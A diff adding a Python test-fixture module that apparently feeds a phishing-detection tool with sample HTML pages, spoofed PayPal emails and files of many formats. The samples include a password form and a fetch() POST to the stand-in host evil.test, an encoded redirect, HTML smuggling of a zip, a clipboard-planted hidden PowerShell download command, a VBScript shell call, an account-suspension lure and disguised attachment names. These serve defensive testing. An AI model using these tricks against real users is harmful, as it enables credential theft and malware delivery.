@@ -1,0 +1,147 @@
+"""Pages and messages with one trick each, and files of most kinds: what is said of them is kept."""
+
+from __future__ import annotations
+
+import base64
+
+from tests.documents.compound_files import (
+    attached,
+    compound,
+    outlook_tree,
+    plain_rtf,
+    tnef,
+    tnef_attachment,
+)
+from tests.documents.samples import paper, picture, zipped
+
+EVIL = "http://evil.test/x"
+BANK = "https://www.paypal.com/"
+CODE = base64.b64encode(f"location='{EVIL}'".encode()).decode()
+PASSWORD = "<input type=password>"
+PAGES = {
+    "shown": f"<a href={EVIL}>{BANK}</a><a href={EVIL}>www.paypal.com.evil.test</a>",
+    "shown-alike": "<a href=https://paypa1.test/>paypal.com</a><a href=//a.test>PayPal</a>",
+    "base": f"<base href={EVIL}/><a href=next>Sign in</a><form action=go>{PASSWORD}</form>",
+    "base-twice": "<base href=/one/><base href=/two/><a href=x>x</a><a href='#s'>s</a>",
+    "form": f"<form action={EVIL}>{PASSWORD}</form><form action=mailto:a@b.test>",
+    "form-http": "<form action=http://page.test/in>" + PASSWORD,
+    "refresh": f"<meta http-equiv=refresh content='0; url={EVIL}'>",
+    "refresh-late": f"<meta http-equiv=refresh content='600;{EVIL}'>",
+    "ping": f"<a href=/here ping='{EVIL} /own'>x</a>",
+    "svg": f"<svg><a xlink:href={EVIL}><text>{BANK}</text></a></svg><svg><use href=#a /></svg>",
+    "click": f"<a href={BANK} onclick=\"location='{EVIL}'\">Sign in</a>",
+    "load": f"<body onload=\"location.href='{EVIL}'\">",
+    "open": f"<button onclick=\"window.open('{EVIL}')\">Help</button>",
+    "sends": f"{PASSWORD}<script>fetch('{EVIL}',{{method:'POST'}})</script>",
+    "frame": f"<iframe src={EVIL} width=100% height=100%></iframe>",
+    "script-link": '<a href="javascript:document.forms[0].submit()">x</a><form action=/x>',
+    "script-link-on": f"<a href=\"javascript:location='{EVIL}'\">x</a>",
+    "entities": "<a href='&#104;&#116;&#116;&#112;://evil.test/'>x</a>"
+    "<a href='j&#x61;vascript:x()'>",
+    "hidden": f"<a href={EVIL} style='display:none'>x</a><a href={EVIL} style='font-size:0'>y</a>",
+    "hidden-around": f"<div style='opacity:0'><a href={EVIL}>x</a></div><a href={EVIL}></a>",
+    "spaces": f"<a href=' {EVIL} '>x</a><a href='ht\ntp://evil.test/'>y</a>",
+    "coded": f"<script>eval(atob('{CODE}'))</script>",
+    "coded-more": "<script>location=String.fromCharCode(104,116,116,112,58,47,47,97)</script>",
+    "smuggled": "<a download='a.exe' href='data:application/zip;base64,UEsDBA=='>x</a>"
+    "<script>new Blob([atob('UEsDBA==')]);x.download='invoice.zip';x.click()</script>",
+    "copied": "<script>navigator.clipboard.writeText('powershell -w hidden -c iwr x')</script>",
+    "application": '<script language=VBScript>CreateObject("WScript.Shell").Run "x"</script>',
+    "data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "userinfo": f"<a href=https://paypal.com@evil.test/>{BANK}</a>",
+    "lists": f"<img srcset='/a.png 1x, {EVIL} 2x' src=''><link imagesrcset='/b 1x,/c 2x'>",
+    "style": f"<style>@import '{EVIL}'; p {{ background: url( /a.png ) }}</style>"
+    '<p style="x:url(b)">',
+    "srcdoc": f"<iframe srcdoc=\"<a href='{EVIL}'>{BANK}</a>\"></iframe>",
+    "code": f"<script>// {EVIL}\nx = '{EVIL}?a';</script><!-- {EVIL}?b -->",
+    "own": "<a href=http://page.test:80/../a%7eb>x</a><a href=//page.test/>y</a>"
+    "<a href=tel:1>z</a>",
+}
+HEAD = "From: A <a@a.test>\nTo: b@b.test\nSubject: x\nDate: Sat, 21 Nov 2026 01:10:00 +0100\n"
+
+
+def mail(header: str, body: str = f"<a href={EVIL}>x</a>", kind: str = "text/html") -> str:
+    """A message with fields of its own, which take the place of the usual ones."""
+    names = {line.partition(":")[0] for line in header.split("\n")}
+    usual = (line for line in HEAD.splitlines() if line.partition(":")[0] not in names)
+    lines = "\n".join([*usual, *filter(None, [header])])
+    return f"{lines}\nContent-Type: {kind}; charset=utf-8\n\n{body}\n"
+
+
+BOTH = (
+    "--b\nContent-Type: text/plain\n\nsee https://one.test/a\n--b\nContent-Type: text/html\n\n"
+    "<a href=https://two.test/>x</a>\n--b--"
+)
+FAILED = "Authentication-Results: mx.b.test; spf=fail smtp.mailfrom=a.test; dkim=none; dmarc=fail"
+PASSED = "Authentication-Results: mx.b.test; spf=pass smtp.mailfrom=a.test; dkim=pass; dmarc=pass"
+MAILS = {
+    "plain": mail(""),
+    "name-address": mail('From: "service@paypal.com" <x@evil.test>'),
+    "name-domain": mail("From: www.paypal.com <x@evil.test>"),
+    "name-known": mail("From: PayPal Service <x@evil.test>"),
+    "name-free": mail("From: PayPal <service.desk@gmail.com>"),
+    "name-disguised": mail("From: =?utf-8?q?P=D0=B0yPal?= <x@evil.test>"),
+    "name-failed": mail("From: PayPal <x@evil.test>\n" + FAILED),
+    "name-nobody": mail("From: PayPal"),
+    "own": mail("From: PayPal <service@paypal.com>\n" + PASSED, f"<a href={BANK}>x</a>"),
+    "domain": mail("From: A <a@paypa1.com>"),
+    "domain-none": mail("From: A <a@intranet.invalid>"),
+    "domain-odd": mail("From: A <a@[192.0.2.1]>"),
+    "reply": mail("Reply-To: other@evil.test"),
+    "reply-free": mail("From: A <a@paypal.com>\nReply-To: a.paypal@gmail.com"),
+    "repeated": mail("From: a@a.test\nFrom: b@evil.test\nSubject: one\nSubject: two"),
+    "several": mail("From: a@a.test, b@evil.test"),
+    "several-sender": mail("From: a@a.test, b@b.test\nSender: c@c.test"),
+    "failed": mail(FAILED),
+    "unsigned": mail("Authentication-Results: mx.b.test; dkim=none; spf=none"),
+    "lure": mail(
+        "Subject: Your account will be suspended within 24 hours",
+        f"<p>Verify your password now: <a href={EVIL}>Click here</a>",
+    ),
+    "lure-german": mail(
+        "Subject: Ihr Konto wurde gesperrt", f"<a href={EVIL}>Jetzt bestätigen</a>"
+    ),
+    "unrelated": mail("From: A <a@paypal.com>", f"<a href={EVIL}>x</a>" * 3),
+    "subject": mail("Subject: P=?utf-8?b?4oCu?= In\u200bvoice"),
+    "userinfo": mail("", "<a href=https://bob@a.test/>x</a>"),
+    "two-bodies": mail("", BOTH, "multipart/alternative; boundary=b").replace(
+        "; charset=utf-8", ""
+    ),
+    "text": mail("", "see https://evil.test/a-\nb and <https://a.test/> www.c.test.", "text/plain"),
+    "attached": mail(
+        "MIME-Version: 1.0",
+        '--b\nContent-Type: application/zip; name="invoice.pdf.exe"\n\nx\n'
+        "--b\nContent-Type: text/plain\n"
+        'Content-Disposition: attachment; filename="a\u202etxt.js"\n\n'
+        "x\n--b\nContent-Type: message/rfc822\n\nFrom: PayPal <c@evil.test>\n\nhttp://d.test/\n--b--",
+        "multipart/mixed; boundary=b",
+    ).replace("; charset=utf-8", ""),
+}
+RTF = (
+    rb"{\rtf1\ansi\ansicpg1252{\fonttbl{\f0\fcharset0 A;}{\f1\fcharset204 B;}}"
+    rb'{\field{\*\fldinst HYPERLINK "http://a.test/" \\l "p"}{\fldrslt \f1 \'ef www.b.test}}'
+    rb"{\*\template http://t.test/a.dotm} see http://c.test/.}"
+)
+TEXTS: dict[int, str | bytes] = {
+    0x0037: "Invoice",
+    0x0C1A: "PayPal",
+    0x5D01: "x@evil.test",
+    0x1035: "<1@a.test>",
+    0x1000: "see http://a.test/1 now",
+    0x1013: b"<a href=http://a.test/2>x</a>",
+    0x1009: plain_rtf(RTF),
+}
+FILES = {
+    "page.html": PAGES["shown"].encode("utf-16"),
+    "all.zip": zipped({"a.html": PAGES["form"].encode(), "deep/b.zip": zipped({"c.txt": b"http://c.test/"})}),
+    "letter.rtf": RTF,
+    "mail.msg": compound(outlook_tree(TEXTS, (attached({0x3707: "a.pdf.exe", 0x3701: b"MZ"}),))),
+    "winmail.dat": tnef(TEXTS, tnef_attachment("b.html", b"<a href=http://t.test/>x</a>", {})),
+    "paper.pdf": paper("http://p.test/a", "http://p.test/(b)"),
+    "code.png": picture(),
+    "dates.ics": b"BEGIN:VCALENDAR\nURL:http://i.test/\nDESCRIPTION:see http://i.test/\n more\n",
+    "card.vcf": b"BEGIN:VCARD\nURL;TYPE=home:http://v.test/\nPHOTO;VALUE=uri:http://v.test/p\n",
+    "go.url": b"[InternetShortcut]\nURL=http://u.test/\nIconFile=\\\\host\\share\\i.ico\n",
+    "look.css": b"@import 'http://s.test/'; a { b: url(c.png) }",
+    "notes.txt": b"http://n.test/, www.m.test and mail to x@o.test\n(http://q.test/a_(b))",
+}  # fmt: skip
